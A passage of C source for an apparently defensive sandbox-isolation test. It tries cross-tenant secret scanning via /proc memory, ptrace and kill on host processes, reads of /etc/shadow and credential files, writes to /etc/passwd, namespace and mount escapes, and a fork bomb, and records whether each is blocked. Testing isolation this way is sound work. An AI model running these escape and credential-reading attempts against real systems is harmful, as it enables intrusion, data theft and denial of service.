/* attack: the hostile C function of the hostile-function suite (provided.al2023, tdrt).
 *
 * One function plays both parts. As tenant B it holds a secret; as tenant A it attacks.
 *   {"action":"hold","secret":S,"maxMs":N}  B: put S in /tmp/secret, in this process's memory
 *       and in the environment of a child process ("sleep"), write the request id to
 *       /tmp/reqid, then wait until /tmp/release is written to (by the test, from the host)
 *       and answer whether all three copies are intact.
 *   {"action":"check","secret":S}          B, later: the copies are still intact.
 *   {"action":"attacks", ...}              A: every quick attack; answers {"results":[...]}
 *       with one {"attack","blocked","detail"} per attempt. Inputs: "secretHex" (the secret,
 *       hex-encoded so the event itself does not contain it), "hostPids" (B's processes and
 *       the daemon, as the host numbers them), "statePath", "daemonPort", "hostAddrs".
 *   {"action":"spoof","requestId":R}        A: answer B's invocation R through this
 *       environment's Runtime API.
 *   {"action":"flood","ms":N}               A: flood this environment's Runtime API.
 *   {"action":"api-socket","cut":B}        A: garbage on the Runtime API socket tdrt inherited
 *       (fd 3), or with "cut" a shutdown of it; answers what the daemon said and whether it
 *       closed. tdrt then carries on over TCP.
 *   {"action":"stray-next"}                 A: a process of the function's own asks the Runtime API
 *       for the next event over TCP once the runtime is idle again, and writes the answer
 *       it got (empty when its connection was closed unanswered) to /tmp/stray-next;
 *       {"action":"stray-result"} answers it.
 *   {"action":"fork-bomb"}                  A: fork without end; never answers.
 *   {"action":"oom"}                        A: allocate and touch memory without end.
 *   {"action":"fill-tmp"}                   A: write /tmp full; answers bytes and errno.
 *   {"action":"spin"}                       A: burn CPU without end.
 *   {"action":"linger"}                     A: leave a detached process ("td-linger") behind.
 *   {"action":"ping"}                       answer {"pong":true}.
 *
 * An attack is "blocked" only when it failed in the expected way; an unexpected errno counts
 * as not blocked, so a change that weakens a layer shows up here. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <linux/capability.h>
#include <linux/vm_sockets.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <jansson.h>

#include "tdrt.h"

#define SECRET_MAX 256

/* B's in-memory copy of its secret (kept for the life of the environment). */
static char *held_secret;
static pid_t held_child = -1;

/* ---- results ---- */

__attribute__((format(printf, 4, 5))) static void add(json_t *results, const char *attack,
                                                      bool blocked, const char *fmt, ...)
{
    char detail[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(detail, sizeof(detail), fmt, ap);
    va_end(ap);
    json_array_append_new(results, json_pack("{s:s, s:b, s:s}", "attack", attack, "blocked",
                                             blocked, "detail", detail));
}

/* Appends "what: errno-name" (or "what: ok") to a detail buffer. */
static void note(char *buf, size_t size, const char *what, int err)
{
    size_t len = strlen(buf);
    if (len + 2 >= size)
        return;
    snprintf(buf + len, size - len, "%s%s: %s", len ? ", " : "", what,
             err ? strerrorname_np(err) : "ok");
}

static bool denied(int err)
{
    return err == EPERM || err == EACCES || err == ENOSYS;
}

static void sleep_ms(long ms)
{
    struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000};
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
}

static int answer(struct tdrt_response *resp, json_t *o)
{
    char *text = o ? json_dumps(o, JSON_COMPACT) : NULL;
    json_decref(o);
    if (!text)
        return -ENOMEM;
    int r = tdrt_response_set(resp, text, strlen(text), "application/json");
    free(text);
    return r;
}

/* ---- small file helpers ---- */

static ssize_t read_all(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    size_t len = 0;
    while (len + 1 < size) {
        ssize_t n = read(fd, buf + len, size - 1 - len);
        if (n < 0) {
            int e = errno;
            close(fd);
            return -e;
        }
        if (n == 0)
            break;
        len += (size_t)n;
    }
    close(fd);
    buf[len] = '\0';
    return (ssize_t)len;
}

static int write_all(const char *path, const char *text, mode_t mode)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
    if (fd < 0)
        return -errno;
    ssize_t n = write(fd, text, strlen(text));
    int e = n < 0 ? errno : 0;
    close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -(e ? e : EIO);
}

/* ---- B: hold a secret ---- */

static pid_t spawn_secret_child(const char *secret)
{
    char var[SECRET_MAX + 32];
    snprintf(var, sizeof(var), "TENANT_SECRET=%s", secret);
    pid_t pid = fork();
    if (pid == 0) {
        char arg0[] = "sleep", arg1[] = "100000";
        char *argv[] = {arg0, arg1, NULL};
        char *envp[] = {var, NULL};
        execve("/bin/sleep", argv, envp);
        _exit(127);
    }
    return pid;
}

static bool child_has_secret(pid_t pid, const char *secret)
{
    char path[64], buf[4096];
    snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
    ssize_t n = read_all(path, buf, sizeof(buf));
    return n > 0 && memmem(buf, (size_t)n, secret, strlen(secret)) != NULL;
}

static json_t *secret_status(const char *secret)
{
    char file[SECRET_MAX + 1];
    ssize_t n = read_all("/tmp/secret", file, sizeof(file));
    return json_pack("{s:b, s:b, s:b}", "tmp", n >= 0 && strcmp(file, secret) == 0, "memory",
                     held_secret && strcmp(held_secret, secret) == 0, "environ",
                     held_child > 0 && child_has_secret(held_child, secret));
}

static int do_hold(const struct tdrt_context *ctx, json_t *ev, struct tdrt_response *resp)
{
    const char *secret = json_string_value(json_object_get(ev, "secret"));
    json_int_t max_ms = json_integer_value(json_object_get(ev, "maxMs"));
    if (!secret || strlen(secret) >= SECRET_MAX || strchr(secret, '\n'))
        return tdrt_response_error(resp, "AttackBadEvent", "hold needs a short \"secret\"");
    free(held_secret);
    held_secret = strdup(secret);
    int r = write_all("/tmp/secret", secret, 0600);
    if (r < 0)
        return tdrt_response_error(resp, "AttackError", "/tmp/secret: %s", strerror(-r));
    if (held_child <= 0)
        held_child = spawn_secret_child(secret);
    /* The test releases B by writing to /tmp/release from the host (it cannot create files
     * here: its uid is not mapped in this user namespace). */
    r = write_all("/tmp/release", "", 0666);
    if (r == 0)
        r = chmod("/tmp/release", 0666) < 0 ? -errno : 0;
    if (r == 0)
        r = write_all("/tmp/reqid", ctx->request_id, 0644);
    if (r < 0)
        return tdrt_response_error(resp, "AttackError", "/tmp: %s", strerror(-r));
    struct stat st;
    for (json_int_t waited = 0;
         waited < max_ms && stat("/tmp/release", &st) == 0 && st.st_size == 0; waited += 20)
        sleep_ms(20);
    return answer(resp, secret_status(secret));
}

static int do_check(json_t *ev, struct tdrt_response *resp)
{
    const char *secret = json_string_value(json_object_get(ev, "secret"));
    if (!secret)
        return tdrt_response_error(resp, "AttackBadEvent", "check needs \"secret\"");
    return answer(resp, secret_status(secret));
}

/* ---- A: reading other environments ---- */

struct needle {
    char text[SECRET_MAX];
    size_t len;
};

static int decode_needle(const char *hex, struct needle *n)
{
    size_t len = hex ? strlen(hex) : 0;
    if (len == 0 || len % 2 || len / 2 >= sizeof(n->text))
        return -EINVAL;
    for (size_t i = 0; i < len / 2; i++) {
        unsigned v;
        if (sscanf(hex + 2 * i, "%2x", &v) != 1)
            return -EINVAL;
        n->text[i] = (char)v;
    }
    n->len = len / 2;
    return 0;
}

/* Scans one process's readable memory through /proc/<pid>/mem; true when the needle is in it. */
static bool scan_memory(pid_t pid, const struct needle *nd, size_t *scanned)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
    FILE *maps = fopen(path, "re");
    snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
    int mem = open(path, O_RDONLY | O_CLOEXEC);
    bool found = false;
    static char chunk[1 << 20];
    char line[512];
    while (maps && mem >= 0 && !found && fgets(line, sizeof(line), maps)) {
        unsigned long lo, hi;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' ||
            strstr(line, "[vvar]"))
            continue;
        for (unsigned long at = lo; at < hi && !found && *scanned < (512ul << 20);) {
            size_t want = hi - at < sizeof(chunk) ? hi - at : sizeof(chunk);
            ssize_t n = pread(mem, chunk, want, (off_t)at);
            if (n <= 0)
                break;
            found = memmem(chunk, (size_t)n, nd->text, nd->len) != NULL;
            *scanned += (size_t)n;
            at += (size_t)n;
        }
    }
    if (maps)
        fclose(maps);
    if (mem >= 0)
        close(mem);
    return found;
}

static bool file_has(const char *path, const struct needle *nd)
{
    static char buf[1 << 16];
    ssize_t n = read_all(path, buf, sizeof(buf));
    return n > 0 && memmem(buf, (size_t)n, nd->text, nd->len) != NULL;
}

static void attack_visible_processes(json_t *results, const struct needle *nd, json_t *host_pids)
{
    int count = 0, found = 0, host_visible = 0;
    size_t scanned = 0;
    char names[512] = "";
    DIR *d = opendir("/proc");
    struct dirent *de;
    while (d && (de = readdir(d))) {
        char *end;
        long pid = strtol(de->d_name, &end, 10);
        if (*end || pid <= 0)
            continue;
        count++;
        char path[64], comm[64] = "";
        snprintf(path, sizeof(path), "/proc/%ld/comm", pid);
        if (read_all(path, comm, sizeof(comm)) > 0)
            comm[strcspn(comm, "\n")] = '\0';
        size_t len = strlen(names);
        snprintf(names + len, sizeof(names) - len, "%s%ld:%s", len ? " " : "", pid, comm);
        size_t i;
        json_t *v;
        json_array_foreach(host_pids, i, v) if (json_integer_value(v) == pid) host_visible++;
        snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
        found += file_has(path, nd);
        snprintf(path, sizeof(path), "/proc/%ld/cmdline", pid);
        found += file_has(path, nd);
        if (pid != getpid())
            found += scan_memory((pid_t)pid, nd, &scanned);
    }
    if (d)
        closedir(d);
    add(results, "list B's processes (only this environment's are visible)", host_visible == 0,
        "%d visible: %s; host pids seen: %d", count, names, host_visible);
    add(results, "find B's secret in any visible /proc/<pid>/environ, cmdline or mem", found == 0,
        "secret found %d times; %zu bytes of memory scanned", found, scanned);
}

static void attack_host_pids(json_t *results, const struct needle *nd, json_t *host_pids)
{
    static const char *const files[] = {"environ", "mem", "maps", "root/tmp/secret", "cmdline"};
    char proc_detail[1024] = "", sig_detail[1024] = "", trace_detail[1024] = "";
    bool proc_blocked = true, sig_blocked = true, trace_blocked = true;
    size_t i;
    json_t *v;
    json_array_foreach(host_pids, i, v)
    {
        pid_t pid = (pid_t)json_integer_value(v);
        char what[96];
        for (size_t f = 0; f < sizeof(files) / sizeof(files[0]); f++) {
            char path[96];
            snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, files[f]);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            int err = fd < 0 ? errno : 0;
            if (fd >= 0) {
                close(fd);
                proc_blocked = false;
                if (file_has(path, nd))
                    note(proc_detail, sizeof(proc_detail), "SECRET FOUND", 0);
            }
            if (f == 0 || fd >= 0)
                note(proc_detail, sizeof(proc_detail), path, err);
        }
        /* A signal 0 probes; SIGKILL is the real attempt. */
        snprintf(what, sizeof(what), "kill(%d)", (int)pid);
        int err = kill(pid, 0) < 0 ? errno : 0;
        if (err == 0)
            err = kill(pid, SIGKILL) < 0 ? errno : 0;
        sig_blocked &= err == ESRCH || err == EPERM;
        note(sig_detail, sizeof(sig_detail), what, err);

        snprintf(what, sizeof(what), "ptrace(ATTACH, %d)", (int)pid);
        err = ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0 ? errno : 0;
        trace_blocked &= err != 0;
        note(trace_detail, sizeof(trace_detail), what, err);
        char buf[64];
        struct iovec local = {buf, sizeof(buf)}, remote = {(void *)0x400000, sizeof(buf)};
        snprintf(what, sizeof(what), "process_vm_readv(%d)", (int)pid);
        err = process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0 ? errno : 0;
        trace_blocked &= denied(err) || err == ESRCH;
        note(trace_detail, sizeof(trace_detail), what, err);
    }
    add(results, "read B's and the daemon's /proc/<host pid>/{environ,mem,maps,root/tmp}",
        proc_blocked, "%s", proc_detail);
    add(results, "signal B's processes and the daemon by host pid", sig_blocked, "%s", sig_detail);
    add(results, "ptrace / process_vm_readv B's processes and the daemon", trace_blocked, "%s",
        trace_detail);
}

static void attack_own_namespace_tracing(json_t *results)
{
    char detail[512] = "";
    /* pid 1 is this environment's init: even inside, tracing is refused. */
    int e1 = ptrace(PTRACE_ATTACH, 1, NULL, NULL) < 0 ? errno : 0;
    note(detail, sizeof(detail), "ptrace(ATTACH, 1)", e1);
    int e2 = ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0 ? errno : 0;
    note(detail, sizeof(detail), "ptrace(TRACEME)", e2);
    char buf[16] = "x";
    struct iovec local = {buf, sizeof(buf)}, remote = {(void *)0x400000, sizeof(buf)};
    int e3 = process_vm_writev(1, &local, 1, &remote, 1, 0) < 0 ? errno : 0;
    note(detail, sizeof(detail), "process_vm_writev(1)", e3);
    add(results, "ptrace anything (this environment's own init, TRACEME)",
        denied(e1) && denied(e2) && denied(e3), "%s", detail);
}

static void attack_tmp(json_t *results, const struct needle *nd)
{
    char detail[512] = "";
    int found = file_has("/tmp/secret", nd);
    note(detail, sizeof(detail), "/tmp/secret", access("/tmp/secret", F_OK) < 0 ? errno : 0);
    DIR *d = opendir("/tmp");
    struct dirent *de;
    int entries = 0;
    while (d && (de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        char path[300];
        snprintf(path, sizeof(path), "/tmp/%s", de->d_name);
        found += file_has(path, nd);
        entries++;
    }
    if (d)
        closedir(d);
    add(results, "read B's /tmp/secret (this environment's /tmp is its own)", found == 0,
        "%s; %d entries in /tmp; secret found %d times", detail, entries, found);
}

/* ---- A: the host's files ---- */

static void attack_host_files(json_t *results, const char *state_path)
{
    char paths[8][300];
    int n = 0;
    if (state_path) {
        snprintf(paths[n++], sizeof(paths[0]), "%s", state_path);
        snprintf(paths[n++], sizeof(paths[0]), "%s/credentials", state_path);
        snprintf(paths[n++], sizeof(paths[0]), "%s/tenantd.db", state_path);
    }
    static const char *const fixed[] = {"/etc/shadow", "/root", "/home", "/var/lib"};
    for (size_t i = 0; i < sizeof(fixed) / sizeof(fixed[0]); i++)
        snprintf(paths[n++], sizeof(paths[0]), "%s", fixed[i]);
    char detail[1024] = "";
    bool blocked = true;
    for (int i = 0; i < n; i++) {
        int fd = open(paths[i], O_RDONLY | O_CLOEXEC);
        int err = fd < 0 ? errno : 0;
        if (fd >= 0)
            close(fd);
        blocked &= err == ENOENT || err == EACCES;
        note(detail, sizeof(detail), paths[i], err);
    }
    add(results, "read the state dir, credentials, /etc/shadow, /root, /home", blocked, "%s",
        detail);
}

static void attack_writes(json_t *results)
{
    static const char *const targets[] = {"/var/task/pwned", "/usr/pwned", "/etc/pwned", "/pwned",
                                          "/usr/bin/pwned"};
    char detail[1024] = "";
    bool blocked = true;
    for (size_t i = 0; i < sizeof(targets) / sizeof(targets[0]); i++) {
        int fd = open(targets[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        int err = fd < 0 ? errno : 0;
        if (fd >= 0)
            close(fd);
        blocked &= err == EROFS || err == EACCES;
        note(detail, sizeof(detail), targets[i], err);
    }
    int fd = open("/etc/passwd", O_WRONLY | O_APPEND | O_CLOEXEC);
    int err = fd < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    blocked &= err == EROFS || err == EACCES;
    note(detail, sizeof(detail), "append /etc/passwd", err);
    err = chmod("/var/task/bootstrap", 04777) < 0 ? errno : 0;
    blocked &= err == EROFS || err == EPERM;
    note(detail, sizeof(detail), "chmod /var/task/bootstrap", err);
    add(results, "write to /var/task, /usr, /etc, /", blocked, "%s", detail);
}

/* ---- A: the network ---- */

static int try_connect(const struct sockaddr *sa, socklen_t len, int type)
{
    int fd = socket(sa->sa_family, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (fd < 0)
        return errno;
    int err = 0;
    if (type == SOCK_DGRAM) {
        err = sendto(fd, "x", 1, 0, sa, len) < 0 ? errno : 0;
    } else if (connect(fd, sa, len) < 0) {
        err = errno;
        if (err == EINPROGRESS) {
            struct pollfd p = {.fd = fd, .events = POLLOUT};
            socklen_t sl = sizeof(err);
            err = poll(&p, 1, 2000) == 1 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &sl) == 0
                      ? err
                      : ETIMEDOUT;
        }
    }
    close(fd);
    return err;
}

static int connect_text(const char *addr, int port, int type)
{
    struct sockaddr_storage ss = {0};
    socklen_t len;
    if (strchr(addr, ':')) {
        struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)&ss;
        s6->sin6_family = AF_INET6;
        s6->sin6_port = htons((uint16_t)port);
        if (inet_pton(AF_INET6, addr, &s6->sin6_addr) != 1)
            return EINVAL;
        len = sizeof(*s6);
    } else {
        struct sockaddr_in *s4 = (struct sockaddr_in *)&ss;
        s4->sin_family = AF_INET;
        s4->sin_port = htons((uint16_t)port);
        if (inet_pton(AF_INET, addr, &s4->sin_addr) != 1)
            return EINVAL;
        len = sizeof(*s4);
    }
    return try_connect((struct sockaddr *)&ss, len, type);
}

static void attack_network(json_t *results, int daemon_port, json_t *host_addrs)
{
    char detail[1024] = "", what[128];
    int err = connect_text("127.0.0.1", daemon_port, SOCK_STREAM);
    snprintf(what, sizeof(what), "127.0.0.1:%d", daemon_port);
    note(detail, sizeof(detail), what, err);
    add(results, "connect to the daemon's public port on 127.0.0.1", err == ECONNREFUSED, "%s",
        detail);

    detail[0] = '\0';
    bool blocked = true;
    size_t i;
    json_t *v;
    json_array_foreach(host_addrs, i, v)
    {
        const char *a = json_string_value(v);
        if (!a)
            continue;
        err = connect_text(a, daemon_port, SOCK_STREAM);
        snprintf(what, sizeof(what), "tcp %s:%d", a, daemon_port);
        blocked &= err == ENETUNREACH || err == EADDRNOTAVAIL;
        note(detail, sizeof(detail), what, err);
    }
    /* Documentation addresses (RFC 5737, RFC 3849): nothing answers even if a packet left. */
    static const char *const outside[][2] = {
        {"192.0.2.1", "tcp"}, {"198.51.100.1", "udp"}, {"2001:db8::1", "tcp"}};
    for (size_t k = 0; k < sizeof(outside) / sizeof(outside[0]); k++) {
        int type = strcmp(outside[k][1], "udp") == 0 ? SOCK_DGRAM : SOCK_STREAM;
        err = connect_text(outside[k][0], 80, type);
        snprintf(what, sizeof(what), "%s %s:80", outside[k][1], outside[k][0]);
        blocked &= err == ENETUNREACH || err == EADDRNOTAVAIL;
        note(detail, sizeof(detail), what, err);
    }
    struct ifaddrs *ifs = NULL;
    char names[256] = "";
    if (getifaddrs(&ifs) == 0) {
        for (struct ifaddrs *it = ifs; it; it = it->ifa_next) {
            if (strstr(names, it->ifa_name))
                continue;
            blocked &= strcmp(it->ifa_name, "lo") == 0;
            size_t len = strlen(names);
            snprintf(names + len, sizeof(names) - len, "%s%s", len ? "," : "", it->ifa_name);
        }
        freeifaddrs(ifs);
    }
    add(results, "reach any address outside the namespace (host addresses, TCP, UDP, IPv6)",
        blocked, "%s; interfaces: %s", detail, names);
}

/* Sends one rtnetlink request and returns the kernel's answer as an errno (0 = it worked). */
static int netlink_request(int fd, struct nlmsghdr *req)
{
    if (send(fd, req, req->nlmsg_len, 0) < 0)
        return errno;
    char buf[4096];
    ssize_t n = recv(fd, buf, sizeof(buf), 0);
    if (n < (ssize_t)sizeof(struct nlmsghdr))
        return n < 0 ? errno : EIO;
    struct nlmsghdr *h = (struct nlmsghdr *)(void *)buf;
    if (h->nlmsg_type != NLMSG_ERROR)
        return EIO;
    return -((struct nlmsgerr *)NLMSG_DATA(h))->error;
}

static void attack_raw_sockets(json_t *results)
{
    char detail[1024] = "";
    bool blocked = true;
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    int err = fd < 0 ? errno : 0;
    blocked &= denied(err);
    note(detail, sizeof(detail), "socket(AF_INET, SOCK_RAW)", err);
    if (fd >= 0)
        close(fd);
    fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    err = fd < 0 ? errno : 0;
    blocked &= denied(err) || err == EAFNOSUPPORT;
    note(detail, sizeof(detail), "socket(AF_PACKET)", err);
    if (fd >= 0)
        close(fd);

    fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    note(detail, sizeof(detail), "socket(NETLINK_ROUTE)", fd < 0 ? errno : 0);
    if (fd >= 0) {
        struct {
            struct nlmsghdr h;
            struct ifaddrmsg a;
            struct rtattr rta;
            struct in_addr addr;
        } addreq = {
            .h = {.nlmsg_len = sizeof(addreq),
                  .nlmsg_type = RTM_NEWADDR,
                  .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL,
                  .nlmsg_seq = 1},
            .a = {.ifa_family = AF_INET, .ifa_prefixlen = 24, .ifa_index = 1},
            .rta = {.rta_len = RTA_LENGTH(sizeof(struct in_addr)), .rta_type = IFA_LOCAL},
        };
        inet_pton(AF_INET, "192.0.2.7", &addreq.addr);
        err = netlink_request(fd, &addreq.h);
        blocked &= denied(err);
        note(detail, sizeof(detail), "RTM_NEWADDR 192.0.2.7/24 on lo", err);
        struct {
            struct nlmsghdr h;
            struct rtmsg r;
            struct rtattr rta;
            int oif;
        } routereq = {
            .h = {.nlmsg_len = sizeof(routereq),
                  .nlmsg_type = RTM_NEWROUTE,
                  .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE,
                  .nlmsg_seq = 2},
            .r = {.rtm_family = AF_INET,
                  .rtm_table = RT_TABLE_MAIN,
                  .rtm_protocol = RTPROT_BOOT,
                  .rtm_scope = RT_SCOPE_LINK,
                  .rtm_type = RTN_UNICAST},
            .rta = {.rta_len = RTA_LENGTH(sizeof(int)), .rta_type = RTA_OIF},
            .oif = 1,
        };
        err = netlink_request(fd, &routereq.h);
        blocked &= denied(err);
        note(detail, sizeof(detail), "RTM_NEWROUTE default dev lo", err);
        close(fd);
    }
    add(results, "open a raw socket, a packet socket, or change addresses/routes over netlink",
        blocked, "%s", detail);
}

/* Address families beyond unix, inet, inet6 and netlink: vsock reaches the hypervisor past any
 * network namespace, AF_ALG is kernel crypto surface. Upper bits of the family (the kernel reads
 * an int) must not smuggle AF_INET past the filter either; nor TIOCSTI past the ioctl rule. */
static void attack_families(json_t *results)
{
    char detail[512] = "";
    bool blocked = true;
    static const struct {
        const char *name;
        unsigned long family;
    } tries[] = {{"AF_VSOCK", AF_VSOCK},
                 {"AF_ALG", AF_ALG},
                 {"AF_BLUETOOTH", AF_BLUETOOTH},
                 {"AF_INET | 1 << 32", AF_INET | (1UL << 32)}};
    for (size_t i = 0; i < sizeof(tries) / sizeof(tries[0]); i++) {
        long fd = syscall(SYS_socket, tries[i].family, SOCK_STREAM | SOCK_CLOEXEC, 0);
        int err = fd < 0 ? errno : 0;
        if (fd >= 0)
            close((int)fd);
        blocked &= err == EAFNOSUPPORT;
        note(detail, sizeof(detail), tries[i].name, err);
    }
    add(results, "open vsock, AF_ALG or other address families (also with high bits set)", blocked,
        "%s", detail);
    long rc = syscall(SYS_ioctl, 0, 0x5412UL | (1UL << 32), "x");
    add(results, "push input into a terminal (TIOCSTI, also with high bits set)",
        rc < 0 && errno == EPERM, "%s", rc < 0 ? strerrorname_np(errno) : "succeeded");
}

/* ---- A: escape attempts, one line each ---- */

static void expect_denied(json_t *results, const char *attack, long rc)
{
    int err = rc < 0 ? errno : 0;
    add(results, attack, rc < 0 && denied(err), "%s", rc < 0 ? strerrorname_np(err) : "succeeded");
}

static void attack_escapes(json_t *results)
{
    expect_denied(results, "unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER));
    expect_denied(results, "unshare(CLONE_NEWNS)", unshare(CLONE_NEWNS));
    expect_denied(results, "unshare(CLONE_NEWNET)", unshare(CLONE_NEWNET));
    expect_denied(results, "unshare(CLONE_NEWPID | CLONE_NEWCGROUP)",
                  unshare(CLONE_NEWPID | CLONE_NEWCGROUP));
    expect_denied(results, "clone(CLONE_NEWUSER)",
                  syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, NULL, NULL, 0));
    struct clone_args {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } ca = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    expect_denied(results, "clone3(CLONE_NEWUSER)", syscall(SYS_clone3, &ca, sizeof(ca)));
    int nsfd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    expect_denied(results, "setns(own mount namespace)", setns(nsfd, 0));
    if (nsfd >= 0)
        close(nsfd);
    nsfd = open("/proc/1/ns/user", O_RDONLY | O_CLOEXEC);
    expect_denied(results, "setns(init's user namespace)", setns(nsfd, CLONE_NEWUSER));
    if (nsfd >= 0)
        close(nsfd);
    (void)mkdir("/tmp/mnt", 0755);
    expect_denied(results, "mount tmpfs", mount("none", "/tmp/mnt", "tmpfs", 0, NULL));
    expect_denied(results, "bind-mount / over /tmp/mnt",
                  mount("/", "/tmp/mnt", NULL, MS_BIND, NULL));
    expect_denied(results, "remount / read-write", mount(NULL, "/", NULL, MS_REMOUNT, NULL));
    expect_denied(results, "umount /proc", umount2("/proc", MNT_DETACH));
    expect_denied(results, "pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/mnt"));
    expect_denied(results, "chroot", chroot("/tmp"));
    expect_denied(results, "init_module", syscall(SYS_init_module, NULL, 0, ""));
    expect_denied(results, "finit_module", syscall(SYS_finit_module, 0, "", 0));
    expect_denied(results, "delete_module", syscall(SYS_delete_module, "ext4", 0));
    char params[120] = {0};
    expect_denied(results, "io_uring_setup", syscall(SYS_io_uring_setup, 8, params));
    char attr[128] = {0};
    expect_denied(results, "bpf(BPF_PROG_LOAD)", syscall(SYS_bpf, 5, attr, sizeof(attr)));
    expect_denied(results, "userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
    expect_denied(results, "keyctl(JOIN_SESSION_KEYRING)", syscall(SYS_keyctl, 1, NULL));
    expect_denied(results, "add_key", syscall(SYS_add_key, "user", "k", "v", 1, -2));
    expect_denied(results, "request_key", syscall(SYS_request_key, "user", "k", NULL, -2));
    struct perf_event_attr pe = {
        .type = PERF_TYPE_SOFTWARE, .size = sizeof(pe), .config = PERF_COUNT_SW_CPU_CLOCK};
    expect_denied(results, "perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
    expect_denied(results, "kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
    expect_denied(results, "reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL));
    expect_denied(results, "swapon", syscall(SYS_swapon, "/tmp/swap", 0));
    expect_denied(results, "acct", syscall(SYS_acct, "/tmp/acct"));
    struct timeval tv = {0};
    expect_denied(results, "settimeofday", syscall(SYS_settimeofday, &tv, NULL));
    char handle[136] = {0};
    int mount_id;
    expect_denied(results, "name_to_handle_at",
                  syscall(SYS_name_to_handle_at, AT_FDCWD, "/", handle, &mount_id, 0));
    expect_denied(results, "open_by_handle_at",
                  syscall(SYS_open_by_handle_at, AT_FDCWD, handle, O_RDONLY));
    /* uid and gid 0 do not exist in this user namespace (EINVAL); had they been mapped, the
     * missing CAP_SETUID would give EPERM. */
    long rc = syscall(SYS_setuid, 0);
    add(results, "setuid(0)", rc < 0 && (errno == EINVAL || errno == EPERM), "%s",
        rc < 0 ? strerrorname_np(errno) : "succeeded");
    rc = syscall(SYS_setgid, 0);
    add(results, "setgid(0)", rc < 0 && (errno == EINVAL || errno == EPERM), "%s",
        rc < 0 ? strerrorname_np(errno) : "succeeded");
    struct __user_cap_header_struct hdr = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct data[2] = {{.effective = ~0u, .permitted = ~0u}};
    expect_denied(results, "capset(all capabilities)", syscall(SYS_capset, &hdr, data));
}

/* The process's own credentials: no capabilities, no_new_privs, seccomp, root unmapped. */
static void attack_privileges(json_t *results)
{
    char status[8192], map[256];
    bool blocked = read_all("/proc/self/status", status, sizeof(status)) > 0;
    char detail[1024] = "";
    static const char *const keys[] = {
        "Uid:", "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", "NoNewPrivs:", "Seccomp:"};
    for (size_t i = 0; blocked && i < sizeof(keys) / sizeof(keys[0]); i++) {
        const char *line = strstr(status, keys[i]);
        if (!line) {
            blocked = false;
            break;
        }
        const char *value = line + strlen(keys[i]);
        value += strspn(value, " \t");
        size_t vlen = strcspn(value, "\n");
        size_t len = strlen(detail);
        snprintf(detail + len, sizeof(detail) - len, "%s%s %.*s", len ? ", " : "", keys[i],
                 (int)vlen, value);
        if (strncmp(keys[i], "Cap", 3) == 0)
            blocked &= strtoull(value, NULL, 16) == 0;
        else if (strcmp(keys[i], "NoNewPrivs:") == 0)
            blocked &= *value == '1';
        else if (strcmp(keys[i], "Seccomp:") == 0)
            blocked &= *value == '2';
        else
            blocked &= atoi(value) != 0;
    }
    /* Only the sandbox user is mapped: no line of the map starts at uid 0. */
    if (read_all("/proc/self/uid_map", map, sizeof(map)) > 0) {
        unsigned inside, outside, count;
        const char *nl = strchr(map, '\n');
        blocked &= sscanf(map, "%u %u %u", &inside, &outside, &count) == 3 && inside != 0 &&
                   count == 1 && (!nl || nl[1] == '\0');
        size_t len = strlen(detail);
        snprintf(detail + len, sizeof(detail) - len, ", uid_map: %.*s", (int)strcspn(map, "\n"),
                 map + strspn(map, " "));
    }
